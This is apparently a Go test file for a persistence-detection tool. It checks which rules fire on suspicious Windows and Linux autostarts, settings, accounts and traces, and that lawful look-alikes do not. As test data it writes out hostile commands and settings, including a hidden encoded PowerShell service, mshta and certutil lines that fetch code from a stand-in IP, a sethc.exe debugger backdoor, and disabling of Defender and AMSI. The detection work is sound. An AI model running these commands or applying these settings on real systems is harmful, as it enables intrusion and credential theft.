package persist

import (
	"slices"
	"strings"
	"testing"

	"postern/detect/anomaly"
	"postern/detect/tools"
	"postern/evidence"
)

// of makes an observation of a kind from names and values of fields.
func of(kind evidence.ObservationKind, pairs ...string) *evidence.Observation {
	values := make([]string, len(evidence.Fields[kind]))
	for i := 0; i < len(pairs); i += 2 {
		at := slices.Index(evidence.Fields[kind], pairs[i])
		if at < 0 {
			panic("no field " + pairs[i])
		}
		values[at] = pairs[i+1]
	}
	return &evidence.Observation{Kind: kind, Values: values}
}

func start(kind, name, command, image string, more ...string) *evidence.Observation {
	return of(evidence.ObserveAutostart, append([]string{"Kind", kind, "Name", name, "CommandLine", command, "Image", image}, more...)...)
}

func setting(kind, name, details string, more ...string) *evidence.Observation {
	return of(evidence.ObserveSetting, append([]string{"Kind", kind, "Name", name, "Details", details}, more...)...)
}

// TestJudge holds what is judged, and what lawful look-alike is not.
func TestJudge(t *testing.T) {
	for _, c := range []struct {
		o    *evidence.Observation
		rule string // "": none above low
	}{
		{start(evidence.StartService, "updater", `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA`, `powershell.exe`), Command},
		{start(evidence.StartService, "x", `%COMSPEC% /C echo a > \\.\pipe\abc`, `%COMSPEC%`), ShellService},
		{start(evidence.StartService, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`), RemoteAdmin},
		{start(evidence.StartService, "qkzvbnrt", `%systemroot%\qkzvbnrt.exe`, `C:\Windows\qkzvbnrt.exe`), RemoteExec},
		{start(evidence.StartService, "Helper", `C:\Windows\Temp\h.exe`, `C:\Windows\Temp\h.exe`), TemporaryImage},
		{start(evidence.StartService, "Svc", `C:\ProgramData\svchost.exe -k netsvcs`, `C:\ProgramData\svchost.exe`), SystemName},
		{start(evidence.StartService, "Net", `%SystemRoot%\System32\svchost.exe -k netsvcs`, `C:\Windows\System32\svchost.exe`, "Details", `C:\ProgramData\net.dll`), ServiceLibrary},
		{start(evidence.StartRunKey, "up", `rundll32.exe C:\ProgramData\a.dll,Start`, `C:\ProgramData\a.dll`), OddImage},
		{start(evidence.StartRunKey, "up", `mshta http://192.0.2.9/a.hta`, `mshta`), Command},
		{start(evidence.StartRunKey, "up", `wscript C:\Users\Public\a.vbs`, `C:\Users\Public\a.vbs`), Command},
		{start(evidence.StartTask, "t", `C:\PerfLogs\t.bat`, `C:\PerfLogs\t.bat`), TemporaryImage},
		{start(evidence.StartTask, "t", `C:\Windows\System32\cmd.exe /c x`, `C:\Windows\System32\cmd.exe`, "Details", "hidden from lists: it has no security descriptor"), HiddenTask},
		{start(evidence.StartIFEO, "sethc.exe", `C:\Windows\System32\cmd.exe`, `C:\Windows\System32\cmd.exe`), Accessibility},
		{start(evidence.StartIFEO, "notepad.exe", `vrfcore.dll x.dll`, `vrfcore.dll`), ImageOptions},
		{start(evidence.StartIIS, "php", `C:\Users\Public\p.exe`, `C:\Users\Public\p.exe`, "Details", "handlers"), TemporaryImage},
		{start(evidence.StartIFEO, "notepad.exe", `C:\tools\x.exe`, `C:\tools\x.exe`), ImageOptions},
		{start(evidence.StartWinlogon, "Userinit", `C:\Windows\system32\userinit.exe,C:\x\y.exe`, `C:\x\y.exe`), Winlogon},
		{start(evidence.StartAppInit, "AppInit_DLLs", `C:\x\y.dll`, `C:\x\y.dll`), AppInit},
		{start(evidence.StartLSA, "Security Packages", "mimilib", ""), LSAPackage},
		{start(evidence.StartPrint, "Mon", "evil.dll", "evil.dll"), PrintLibrary},
		{start(evidence.StartPrint, "Mon", `C:\Net\evil.dll`, `C:\Net\evil.dll`), SystemLibrary},
		{start(evidence.StartWMI, "Updater", `powershell -c x`, ""), WMIConsumer},
		{start(evidence.StartCOM, "{1}", `C:\Users\anna\AppData\Local\Temp\a.dll`, `C:\Users\anna\AppData\Local\Temp\a.dll`), UserClass},
		{start(evidence.StartIIS, "Filter", `C:\inetpub\temp\f.dll`, `C:\inetpub\temp\f.dll`), WebModule},
		{setting(evidence.SettingDefender, `Exclusions\Paths`, `C:\ProgramData`), WideExclusion},
		{setting(evidence.SettingDefender, `DisableRealtimeMonitoring`, `1`), DefenderOff},
		{setting(evidence.SettingCredential, `UseLogonCredential`, `1`), PlainPasswords},
		{setting(evidence.SettingCredential, `DisableRestrictedAdmin`, `0`), HashLogon},
		{setting(evidence.SettingFirewall, `rule`, `allow in`, "Image", `C:\Users\Public\x.exe`), FirewallOpen},
		{setting(evidence.SettingLogging, `Microsoft-Windows-PowerShell/Operational`, `0`), LoggingOff},
		{setting(evidence.SettingPrivilege, `SUID`, ``, "Image", "/usr/bin/find"), ElevatedShell},
		{setting(evidence.SettingPrivilege, `SUID`, ``, "Image", "/var/www/x"), ElevatedFile},
		{setting(evidence.SettingPrivilege, `capabilities`, `cap_setuid=ep`, "Image", "/usr/bin/python3.11"), ElevatedShell},
		{setting(evidence.SettingImmutable, `i`, ``, "TargetObject", "/etc/cron.d/x"), Unchangeable},
		{of(evidence.ObserveAccount, "TargetUserName", "helpdesk$", "TargetSid", "S-1-5-21-1-2-3-1005"), HiddenAccount},
		{of(evidence.ObserveAccount, "TargetUserName", "Gast", "TargetSid", "S-1-5-21-1-2-3-501"), GuestOn},
		{of(evidence.ObserveAccount, "TargetUserName", "Guest", "TargetSid", "S-1-5-21-1-2-3-501", "State", "disabled", "Details", "it acts as the account of number 500"), BorrowedRID},
		{of(evidence.ObserveAccount, "TargetUserName", "svc", "TargetSid", "S-1-5-21-1-2-3-1009", "Groups", "Administrators", "Details", "left out of the logon screen"), HiddenLogon},
		{setting(evidence.SettingRemote, `portproxy v4tov4`, `0.0.0.0/8443 to 10.0.0.5/3389`), PortForwarded},
		{setting(evidence.SettingDefender, `Settings AmsiEnable`, `0`), DefenderOff},
		{setting(evidence.SettingFirewall, `rule`, `allow in`, "Image", `C:\Users\Public\x.exe`, "TargetObject", `HKLM\x\TCP Query User{1}C:\users\public\x.exe`), FirewallOpen},
		{of(evidence.ObserveAccount, "TargetUserName", "anna", "TargetSid", "1000", "State", "no-password", "Image", "/bin/bash"), NoPassword},
		{of(evidence.ObserveProcess, "Image", "/dev/shm/x", "ProcessId", "7"), ProcessTemp},
		{of(evidence.ObserveProcess, "Image", "/usr/bin/x (deleted)", "ProcessId", "7"), ProcessGone},
		{of(evidence.ObserveProcess, "Image", `C:\ProgramData\lsass.exe`, "ProcessId", "7"), ProcessName},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceAmcache, "Image", `C:\Users\anna\svchost.exe`), TraceName},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Windows\TEMP\a.exe`), TraceTemp},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceRecycled, "Image", `C:\inetpub\wwwroot\k.aspx`), TraceTemp},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceRecycled, "Image", `C:\inetpub\wwwroot\logo.png`), ""},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceUserAssist, "Image", `C:\Users\Public\Desktop\Mozilla Firefox.lnk`), ""},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Windows\TEMP\{605A2280-1237-4AB3-9B33-3673E9E66D88}\MpSigStub.exe`), ""},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Users\anna\AppData\Local\Temp\7zS8E89D0D4\Installer.exe`), ""},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceTimes, "Image", `C:\ProgramData\evil.exe`, "Details", "made 2015-01-01T00:00:00Z"), TraceTimes},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceDefender, "Image", `C:\inetpub\wwwroot\m.aspx`, "Details", "Backdoor:ASP/Chopper.A!dha"), TraceFound},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceDeleted, "Image", `C:\ProgramData\vendor\a.exe`, "Details", "deleted; made 2026-01-01T00:00:00Z"), ""},
		{of(evidence.ObserveTrace, "Kind", evidence.TraceHistory, "CommandLine", `certutil -urlcache -f http://192.0.2.9/a.exe a.exe`), TraceCommand},

		{start(evidence.StartService, "Schedule", `%SystemRoot%\System32\svchost.exe -k netsvcs`, `C:\Windows\System32\svchost.exe`, "Details", `%systemroot%\system32\schedsvc.dll`), ""},
		{start(evidence.StartService, "WinDefend", `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe"`, `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe`), ""},
		{start(evidence.StartService, "AnyDesk", `"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service`, `C:\Program Files (x86)\AnyDesk\AnyDesk.exe`), ""},
		{start(evidence.StartService, "MailService", `C:\Program Files (x86)\SmarterTools\SmarterMail\Service\MailService.exe`, `C:\Program Files (x86)\SmarterTools\SmarterMail\Service\MailService.exe`), ""},
		{start(evidence.StartRunKey, "OneDrive", `"C:\Users\anna\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`, `C:\Users\anna\AppData\Local\Microsoft\OneDrive\OneDrive.exe`), ""},
		{start(evidence.StartRunKey, "{id}", `"C:\ProgramData\Package Cache\{id}\vc_redist.x64.exe" /burn.runonce`, `C:\ProgramData\Package Cache\{id}\vc_redist.x64.exe`), ""},
		{start(evidence.StartTask, "cron", `powershell.exe -Command "Invoke-WebRequest https://shop.example/cron.php"`, `powershell.exe`), ""},
		{start(evidence.StartIFEO, "x.exe", `"C:\Windows\System32\vsjitdebugger.exe"`, `C:\Windows\System32\vsjitdebugger.exe`), ""},
		{start(evidence.StartIFEO, "x.exe", `vrfcore.dll vfbasics.dll`, `vrfcore.dll`), ""},
		{start(evidence.StartIIS, "php", `C:\php\php-cgi.exe`, `C:\php\php-cgi.exe`, "Details", "handlers"), ""},
		{start(evidence.StartWinlogon, "Shell", `explorer.exe`, `explorer.exe`), ""},
		{start(evidence.StartWinlogon, "Userinit", `C:\Windows\system32\userinit.exe,`, `C:\Windows\system32\userinit.exe`), ""},
		{start(evidence.StartLSA, "Security Packages", "kerberos", ""), ""},
		{start(evidence.StartPrint, "TCPMON", "tcpmon.dll", "tcpmon.dll"), ""},
		{start(evidence.StartPrint, "hpzppWN7", "hpzppWN7.dll", "hpzppWN7.dll"), ""},
		{start(evidence.StartSession, "BootExecute", "autocheck autochk *", ""), ""},
		{start(evidence.StartIIS, "UriCacheModule", `%windir%\System32\inetsrv\cachuri.dll`, `%windir%\System32\inetsrv\cachuri.dll`), ""},
		{setting(evidence.SettingDefender, `Exclusions\Paths`, `C:\SmarterMail\Spool`), ""},
		{setting(evidence.SettingLogging, `Security MaxSize`, `0`), ""},
		{setting(evidence.SettingDefender, `Settings AmsiEnable`, `1`), ""},
		{setting(evidence.SettingFirewall, `rule`, `allow in`, "Image", `C:\Users\anna\Desktop\x.exe`, "TargetObject", `HKLM\x\UDP Query User{1}C:\users\anna\desktop\x.exe`), ""},
		{of(evidence.ObserveAccount, "TargetUserName", "HomeGroupUser$", "TargetSid", "S-1-5-21-1-2-3-1002"), ""},
		{of(evidence.ObserveAccount, "TargetUserName", "scan", "TargetSid", "S-1-5-21-1-2-3-1003", "Groups", "Users", "Details", "left out of the logon screen"), ""},
		{setting(evidence.SettingPrivilege, `SUID`, ``, "Image", "/usr/bin/sudo"), ""},
		{of(evidence.ObserveAccount, "TargetUserName", "Gast", "TargetSid", "S-1-5-21-1-2-3-501", "State", "disabled"), ""},
		{of(evidence.ObserveProcess, "Image", `C:\Windows\System32\lsass.exe`, "ProcessId", "7"), ""},
	} {
		got := append(Judge(c.o), Tools(c.o, table(t))...)
		has := slices.ContainsFunc(got, func(j anomaly.Judgement) bool { return j.Rule == c.rule })
		if c.rule != "" && !has {
			t.Errorf("%v: %v, not %s", c.o.Values, got, c.rule)
		}
		if loud := slices.IndexFunc(got, func(j anomaly.Judgement) bool { return severity(t, j.Rule) != low }); c.rule == "" && loud >= 0 {
			t.Errorf("%v: %v", c.o.Values, got[loud])
		}
	}
}

func table(t *testing.T) *tools.Table {
	t.Helper()
	all, err := tools.Load()
	if err != nil {
		t.Fatal(err)
	}
	return all
}

func severity(t *testing.T, id string) string {
	t.Helper()
	for _, r := range Rules() {
		if r.ID == id {
			return r.Severity
		}
	}
	t.Fatalf("no rule %s", id)
	return ""
}

// TestRulesSayAll: every rule has what a finding shows, under an ID of its own.
func TestRulesSayAll(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if seen[r.ID] || r.Title == "" || r.Next == "" || !strings.HasPrefix(r.Source, attack) || len(r.Attack) != 1 {
			t.Errorf("%+v", r)
		}
		seen[r.ID] = true
	}
}

// FuzzJudge: no command, name or path may panic or name a rule that is not there.
func FuzzJudge(f *testing.F) {
	f.Add(uint8(0), "service", "x", `C:\Windows\Temp\a.exe`)
	f.Add(uint8(1), "defender", "Exclusions", `%TEMP%`)
	known := map[string]bool{}
	for _, r := range Rules() {
		known[r.ID] = true
	}
	all, err := tools.Load()
	if err != nil {
		f.Fatal(err)
	}
	kinds := []evidence.ObservationKind{evidence.ObserveAutostart, evidence.ObserveSetting, evidence.ObserveAccount, evidence.ObserveProcess, evidence.ObserveTrace}
	f.Fuzz(func(t *testing.T, at uint8, a, b, c string) {
		o := &evidence.Observation{Kind: kinds[int(at)%len(kinds)]}
		for i := range evidence.Fields[o.Kind] {
			o.Values = append(o.Values, []string{a, b, c}[i%3])
		}
		for _, j := range append(Judge(o), Tools(o, all)...) {
			if !known[j.Rule] || j.Reason == "" {
				t.Fatalf("%+v", j)
			}
		}
	})
}
